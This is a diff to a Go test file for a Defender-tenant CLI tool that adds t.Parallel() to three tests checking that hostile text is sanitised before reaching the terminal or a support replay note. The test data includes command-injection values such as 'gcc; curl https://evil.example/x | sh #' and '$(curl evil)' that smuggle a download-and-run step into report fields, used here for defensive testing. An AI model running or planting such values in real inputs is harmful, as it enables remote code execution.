@@ -26,6 +26,7 @@ func terminalSafe(t *testing.T, out string) {
 }
 
 func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
+	t.Parallel()
 	res := defender.Result{Tenants: []defender.TenantResult{{TenantID: "contoso.com", Customer: "Cust" + hostileText,
 		Checks: []defender.CheckResult{{ID: defender.CheckToken, Status: defender.Fail, Problem: problem.ServiceError,
 			Message: "AADSTS" + hostileText + strings.Repeat("x", 1<<20), Remedy: "do" + hostileText}}}}}
@@ -42,6 +43,7 @@ func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
 }
 
 func TestReplayNoteQuotesTheReport(t *testing.T) {
+	t.Parallel()
 	rep := &supportReport{Tool: toolInfo{Version: "v1" + hostileText}, Tenants: []reportTenant{{TenantID: "x; curl evil | sh"}}}
 	rep.Connector.Cloud = "gcc; curl https://evil.example/x | sh #"
 	rep.Connector.ClientID = "$(curl evil)"
@@ -58,6 +60,7 @@ func TestReplayNoteQuotesTheReport(t *testing.T) {
 }
 
 func TestErrorsAreSanitised(t *testing.T) {
+	t.Parallel()
 	var b bytes.Buffer
 	a := &app{getenv: func(string) string { return "" }}
 	a.renderError(&b, fang.Styles{}, errorString("token: "+hostileText))
